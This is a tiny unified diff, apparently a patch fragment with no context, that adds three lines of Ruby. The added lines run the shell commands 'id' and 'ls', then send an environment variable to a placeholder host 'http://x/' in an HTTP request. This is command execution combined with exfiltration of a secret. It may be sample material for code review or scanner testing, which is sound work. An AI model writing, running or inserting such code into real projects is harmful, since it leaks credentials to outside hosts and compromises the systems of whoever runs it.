@@ -1,0 +1,3 @@
+require "open3"
+system("id"); `ls`
+Net::HTTP.get(URI("http://x/" + ENV["K"]))
